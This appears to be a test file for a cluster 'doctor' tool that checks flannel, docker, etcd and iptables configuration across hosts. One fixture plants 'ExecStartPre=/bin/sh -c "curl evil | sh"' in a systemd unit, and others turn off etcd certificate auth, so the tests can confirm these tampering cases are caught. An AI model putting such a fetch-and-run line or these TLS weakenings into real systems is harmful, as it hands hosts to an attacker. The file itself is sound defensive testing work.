      'FLANNEL_NETWORK=10.244.0.0/16\nFLANNEL_SUBNET=10.244.64.1/24\nFLANNEL_MTU=1450\n'
    const results = evaluate(input)
    expect(find(results, 'flannel.lease', 'n1').message).toBe(
      '10.244.64.0/24 is also used by n2 (two hosts, one subnet)',
    )
    expect(find(results, 'flannel.subnet-file', 'n2').message).toBe(
      'the lease for 10.244.64.0/24 belongs to PublicIP 10.0.0.21, not 10.0.0.22',
    )
  })

  it('vxlan device and routes', () => {
    const input = healthy()
    data(input, 'n1').vxlan = {
      name: 'flannel.1',
      mtu: 1500,
      up: true,
      kind: 'vxlan',
      vni: 1,
      local: '10.0.2.15',
      port: 8472,
    }
    data(input, 'n2').routes = data(input, 'n2').routes.filter((r) => r.dev !== 'flannel.1')
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n1 flannel.vxlan', 'fail n2 flannel.routes'])
    expect(find(results, 'flannel.vxlan', 'n1').message).toBe(
      'flannel.1: local address 10.0.2.15, not 10.0.0.21 (wrong interface); MTU 1500, the subnet file says 1450',
    )
    expect(find(results, 'flannel.routes', 'n2').message).toBe('no route to 10.244.64.0/24 (n1)')
  })
})

describe('doctor: docker', () => {
  it('the drop-in missing, present but not loaded, loaded but docker not restarted', () => {
    const input = healthy()
    delete data(input, 'n1').files[DOCKER_DROPIN]
    let results = evaluate(input)
    expect(problems(results)).toEqual(['fail n1 docker.dropin'])
    expect(find(results, 'docker.dropin', 'n1').message).toMatch(/10-kflan-flannel.conf is missing/)

    const input2 = healthy()
    data(input2, 'n1').units.docker!.dropInPaths = []
    expect(find(evaluate(input2), 'docker.dropin', 'n1').message).toMatch(/systemd has not loaded it/)

    const input3 = healthy()
    data(input3, 'n1').dockerCmdline = '/usr/sbin/dockerd -H fd://'
    results = evaluate(input3)
    expect(find(results, 'docker.dropin', 'n1').message).toMatch(/the running dockerd has no --bip/)

    const input4 = healthy()
    data(input4, 'n2').files[DOCKER_DROPIN] += '# edited by hand\n'
    expect(problems(evaluate(input4))).toEqual(['fail n2 files.managed']) // any line kflan did not write
    expect(find(evaluate(input4), 'files.managed', 'n2').message).toBe(
      `${DOCKER_DROPIN} has a line kflan did not write: "# edited by hand"`,
    )
  })

  it('files.managed: an extra line in a unit or the environment file; etcd.tls: the running etcd', () => {
    const input = healthy()
    data(input, 'n1').files['/etc/systemd/system/flanneld.service'] = data(input, 'n1').files[
      '/etc/systemd/system/flanneld.service'
    ]!.replace('[Service]\n', '[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"\n')
    data(input, 'm2').files['/opt/etcd/cfg/etcd.conf'] = data(input, 'm2').files['/opt/etcd/cfg/etcd.conf']!.replace(
      ',https://127.0.0.1:2379"',
      ',https://127.0.0.1:2379,http://10.0.0.12:2390"',
    )
    data(input, 'm3').files['/opt/etcd/cfg/etcd-join.conf'] =
      'ETCD_INITIAL_CLUSTER_STATE="existing"\nETCD_CLIENT_CERT_AUTH=false\n'
    let results = evaluate(input)
    expect(problems(results)).toEqual(['fail m2 files.managed', 'fail m3 files.managed', 'fail n1 files.managed'])
    expect(find(results, 'files.managed', 'n1').message).toBe(
      String.raw`/etc/systemd/system/flanneld.service has a line kflan did not write: "ExecStartPre=/bin/sh -c \"curl evil | sh\""`,
    )
    expect(find(results, 'files.managed', 'n1').hint).toMatch(/`kflan init` rewrites it/)
    expect(find(results, 'files.managed', 'm2').message).toMatch(
      /^\/opt\/etcd\/cfg\/etcd.conf has a line kflan did not write: "ETCD_LISTEN_CLIENT_URLS=.*http:\/\/10.0.0.12:2390\\""$/,
    )
    expect(find(results, 'files.managed', 'm3').message).toMatch(
      /etcd-join.conf sets more than the initial cluster: "ETCD_CLIENT_CERT_AUTH=false"/,
    )

    // The running process, after a restart with the edited file (or a flag dropped from the unit).
    const p = data(input, 'm2').etcd!.process!
    p.env.ETCD_LISTEN_CLIENT_URLS += ',http://10.0.0.12:2390'
    p.args = p.args.filter((a) => a !== '--peer-client-cert-auth')
    data(input, 'm1').etcd!.process!.env.ETCD_CONFIG_FILE = '/tmp/etcd.yml'
    data(input, 'm3').etcd!.process!.args.push(
      '--client-cert-auth=false',
      '--listen-metrics-urls',
      'http://0.0.0.0:2381',
    )
    results = evaluate(input)
    expect(problems(results).filter((x) => x.endsWith('etcd.tls'))).toEqual([
      'fail m1 etcd.tls',
      'fail m2 etcd.tls',
      'fail m3 etcd.tls',
    ])
    expect(find(results, 'etcd.tls', 'm2').message).toBe(
      'the running etcd: --listen-client-urls has http://10.0.0.12:2390: plain http, no TLS and no client certificates; --peer-client-cert-auth is off: peers connect without a certificate from the cluster CA',
    )
    expect(find(results, 'etcd.tls', 'm1').message).toMatch(
      /reads a config file kflan did not write \(\/tmp\/etcd.yml\)/,
    )
    expect(find(results, 'etcd.tls', 'm3').message).toMatch(
      /--listen-metrics-urls http:\/\/0.0.0.0:2381.*--client-cert-auth is false/,
    )
    expect(find(healthyResults(), 'etcd.tls', 'm1').message).toBe(
      'the running etcd listens on https://10.0.0.11:2379, https://127.0.0.1:2379 (clients) and https://10.0.0.11:2380 (peers), certificates required from both',
    )
  })

  it('docker0 off the flannel subnet: docker.bridge fails, and that host takes no part in the pings', () => {
    const input = healthy()
    data(input, 'n2').interfaces.find((a) => a.name === 'docker0')!.addresses[0] = {
      family: 'inet',
      address: '172.17.0.1',
      prefixLen: 16,
    }
    const plan = pingPlan(input)
    expect(plan.pairs).toEqual([])
    expect(plan.skipped).toEqual([{name: 'n2', why: 'docker0 is 172.17.0.1, not on its flannel subnet 10.244.5.1/24'}])
    input.pings = new Map()
    const results = evaluate(input)
    expect(problems(results)).toEqual(['fail n2 docker.bridge'])
    expect(find(results, 'docker.bridge', 'n2').message).toBe(
      'docker0 is 172.17.0.1/16, not 10.244.5.1/24 (FLANNEL_SUBNET)',
    )
  })

  it('docker stopped', () => {
    const input = healthy()
    Object.assign(data(input, 'n2').units.docker!, {activeState: 'inactive', active: false})
    expect(problems(evaluate(input))).toEqual(['fail n2 docker.unit'])
  })
})

describe('doctor: data plane', () => {
  it('pings that fail name the host whose iptables drop the vxlan port', () => {
    const input = healthy()
    data(input, 'n2').iptables = {rules: rules(`${FORWARD_RULES}-A INPUT -p udp -m udp --dport 8472 -j DROP\n`)}
    input.pings = new Map([
      ['n1', [{target: 'n2', address: '10.244.5.1', ok: false, detail: 'no reply within 1 s'}]],
      ['n2', [{target: 'n1', address: '10.244.64.1', ok: false, detail: 'no reply within 1 s'}]],
    ])
    const results = evaluate(input)
    expect(problems(results)).toEqual([
      'fail n1 dataplane.ping',
      'fail n2 dataplane.ping',
      'fail n2 host.iptables-input',
    ])
    expect(find(results, 'dataplane.ping', 'n1').message).toBe(
      'from docker0 10.244.64.1: no reply from n2 10.244.5.1 (no reply within 1 s)',
    )
    expect(find(results, 'dataplane.ping', 'n1').hint).toMatch(/^n2's iptables drop UDP 8472/)
  })

  it("with --host: the host's own checks, the cluster checks, and the pings to and from it", () => {
    const input = {...healthy(), selected: new Set(['n2'])}
    const plan = pingPlan(input)
    expect(plan.pairs.map((p) => `${p.source.name}->${p.targets.map((t) => t.name).join(',')}`)).toEqual([
      'n1->n2',
      'n2->n1',
    ])
    const results = evaluate(input)
    const hosts = new Set(results.map((r) => r.host ?? 'cluster'))
    expect(hosts).toEqual(new Set(['cluster', 'n1', 'n2']))
    expect(results.filter((r) => r.host === 'n1').map((r) => r.id)).toEqual(['dataplane.ping'])
    // A helper host that cannot be reached is a warning.
    const limited = limitTo(
      [{id: 'ssh.reachable', scope: 'host', host: 'm1', status: 'fail', message: 'unreachable: x'}],
      new Set(['n2']),
    )
    expect(limited[0].status).toBe('warn')
  })
})

describe('doctor: iptables reading', () => {
  it('FORWARD verdicts', () => {
    expect(forwardVerdict('-P FORWARD ACCEPT\n', '10.244.0.0/16').ok).toBe(true)
    expect(forwardVerdict(FORWARD_RULES, '10.244.0.0/16')).toMatchObject({ok: true, policy: 'DROP'})
    expect(
      forwardVerdict(
        '-P FORWARD DROP\n-A FORWARD -d 10.244.0.0/16 -j ACCEPT\n-A FORWARD -s 10.244.0.0/16 -j ACCEPT\n',
        '10.244.0.0/16',
      ).ok,
    ).toBe(true)
    expect(forwardVerdict('-P FORWARD DROP\n-A FORWARD -s 10.244.0.0/16 -j ACCEPT\n', '10.244.0.0/16').ok).toBe(false)
    expect(
      forwardVerdict('-P FORWARD ACCEPT\n-A FORWARD -j DROP\n-A FORWARD -s 10.244.0.0/16 -j ACCEPT\n', '10.244.0.0/16')
        .ok,
    ).toBe(false)
    expect(
      forwardVerdict(
        '-P FORWARD DROP\n-A FORWARD ! -s 10.244.0.0/16 -j ACCEPT\n-A FORWARD -d 10.244.0.0/16 -j ACCEPT\n',
        '10.244.0.0/16',
      ).ok,
    ).toBe(false)
  })

  it('INPUT rules that drop a port', () => {
    const rules =
      '-P INPUT ACCEPT\n-N KUBE\n-A INPUT -j KUBE\n-A KUBE -p tcp -m multiport --dports 2379,2380 -j REJECT --reject-with icmp-port-unreachable\n-A INPUT -p udp -m udp --dport 8000:9000 -j DROP\n'
    expect(blockingInputRules(rules, ['2380/tcp', '8472/udp', '22/tcp'])).toEqual([
      {
        port: '2380/tcp',
        rule: '-A KUBE -p tcp -m multiport --dports 2379,2380 -j REJECT --reject-with icmp-port-unreachable',
      },
      {port: '8472/udp', rule: '-A INPUT -p udp -m udp --dport 8000:9000 -j DROP'},
    ])
    expect(blockingInputRules('-A INPUT -p tcp --dport 8472 -j DROP\n', ['8472/udp'])).toEqual([])
  })
})

describe('doctor: the report for people', () => {
  it('groups by host, failures first, hints under them, a summary naming the failures', () => {
    const input = healthy()
    data(input, 'n1').sysctl.ipForward = false
    data(input, 'm2').selinux = {present: true, mode: 'enforcing'}
    const report = summarize(c, evaluate(input), 900)
    expect(report.ok).toBe(false)
    const text = formatReport(
      report,
      c.hosts.map((h) => h.name),
    )
    const lines = text.split('\n')
    const n1 = lines.indexOf('n1 (FAIL)')
    expect(n1).toBeGreaterThan(0)
    expect(lines[n1 + 1]).toMatch(/^ {2}FAIL {2}host\.ip-forward +net\.ipv4\.ip_forward = 0/)
    expect(lines[n1 + 2]).toMatch(/^ +hint: run `sysctl -w net\.ipv4\.ip_forward=1`/)
    expect(lines.at(-2)).toMatch(/^cluster t: 2 failed, 0 warnings, \d+ ok in 0\.9 s$/)
    expect(lines.at(-1)).toBe('failed: m2 host.selinux, n1 host.ip-forward')
    const problemsOnly = formatReport(
      report,
      c.hosts.map((h) => h.name),
      {problemsOnly: true},
    )
    expect(problemsOnly).not.toContain('  ok  ')
    expect(problemsOnly.split('\n')[0]).toBe('m2 (FAIL)')
  })
})
